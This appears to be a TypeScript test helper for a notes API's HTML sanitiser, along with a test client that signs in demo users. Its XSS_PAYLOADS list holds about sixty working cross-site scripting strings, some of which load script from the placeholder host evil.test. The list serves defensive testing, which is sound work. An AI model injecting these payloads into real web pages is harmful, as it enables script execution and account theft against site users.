import type { Note } from '@platform/shared/contracts';
import type { TestApp } from '../../testing/create-test-app';
import { countRows, signedInCaller } from '../../testing/test-caller';
import { NOTE_TAGS, sanitizeNote } from './sanitize';

/** Script tags, event handlers, javascript: URLs, SVG, CSS expressions and mutation XSS. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script type="module">import("//evil.test")</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)">',
  '<IMG SRC=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<b onclick="alert(1)">bold</b>',
  '<p onmouseover=alert(1)>hover</p>',
  '<div onfocus=alert(1) tabindex=0 autofocus>x</div>',
  '<span onpointerenter=alert(1)>x</span>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="jav&#x09;ascript:alert(1)">link</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
  '<a href=" javascript:alert(1)">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="//evil.test">protocol relative</a>',
  '<a href="https://ok.test" onclick="alert(1)">ok</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<div style="background:url(javascript:alert(1))">css</div>',
  '<div style="width: expression(alert(1))">css</div>',
  '<span style="behavior:url(x.htc)">css</span>',
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p>ok</p><img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<span class="mention x" data-user-id="1 onmouseover=alert(1)">@x</span>',
  '<a href="https://ok.test" target="_self" rel="opener">opener</a>',
  '<isindex action=javascript:alert(1) type=image>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
];

/** Every tag of stored HTML is allowed, with no handler, style or script URL. */
export function expectSafe(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>/g)) {
    const name = /^<\/?\s*([a-zA-Z0-9-]+)/.exec(tag)?.[1]?.toLowerCase();
    expect(NOTE_TAGS).toContain(name);
    expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
    expect(tag).not.toMatch(/style\s*=/i);
    expect(tag).not.toMatch(/(javascript|vbscript|data)\s*:/i);
    expect(tag).not.toMatch(/href="\/\//);
  }
  expect(html).not.toMatch(/<\s*(script|svg|math|iframe|img|style|object|embed|form|input)/i);
  // Cleaning again changes nothing: a browser parses the stored HTML as the sanitiser did.
  expect(sanitizeNote(html)).toBe(html);
}

interface Row {
  id: number;
  [field: string]: unknown;
}

/**
 * The notes API as the notes tests call it, each demo user by email. Registers a beforeAll (call
 * it in the suite's body) that signs the users in, reads the demo jobs and adds one job to acme.
 */
export function notesTestClient(get: () => TestApp) {
  const { call } = signedInCaller(get, [
    'admin@demo.test',
    'sales@demo.test',
    'measurer@demo.test',
    'dashboard@demo.test',
    'admin@acme.test',
  ]);
  const notes = {
    /** The demo organisation's jobs, by id; and one job of acme. */
    jobs: [] as Row[],
    acmeJob: undefined as unknown as Row,

    call: (who: string, method: 'GET' | 'POST', url: string, payload?: unknown) =>
      call(who, method, url, payload),
    async listNotes(
      who: string,
      table: string,
      id: number | string,
      paging: Record<string, unknown> = {},
      showAudit = false,
    ) {
      const query = new URLSearchParams({
        table,
        id: String(id),
        show_audit: String(showAudit),
        pagination_object: JSON.stringify({ page_number: 1, page_size: 10, ...paging }),
      });
      const answer = await notes.call(who, 'GET', `/notes?${query.toString()}`);
      return answer as typeof answer & { data: Note[] };
    },
    async send(who: string, id: number | 'new', request: unknown) {
      const answer = await notes.call(who, 'POST', `/note/history/${id}/details`, {
        object_data: JSON.stringify(request),
      });
      return answer as typeof answer & { data: Note };
    },
    /** Adds a note to a job as `who` (the `more` fields go with the request). */
    addToJob(who: string, note: string, job: number | string, more: Record<string, unknown> = {}) {
      return notes.send(who, 'new', {
        type: 'add',
        note,
        table_name: 'jobs',
        table_id: job,
        ...more,
      });
    },
    /** Rows of the notes tables, to check that a refused call stored nothing. */
    async counts() {
      return {
        notes: await countRows(get, 'notes'),
        versions: await countRows(get, 'note_versions'),
        notifications: await countRows(get, 'notifications'),
      };
    },
  };

  beforeAll(async () => {
    notes.jobs = await get()
      .ctx.db.selectFrom('records')
      .select('id')
      .where('organisation_id', '=', 1)
      .where('record_type', '=', 'jobs')
      .orderBy('id')
      .execute();
    notes.acmeJob = await get()
      .ctx.db.insertInto('records')
      .values({ organisation_id: 2, record_type: 'jobs', data: JSON.stringify({ title: 'Acme' }) })
      .returning('id')
      .executeTakeFirstOrThrow();
  });
  return notes;
}
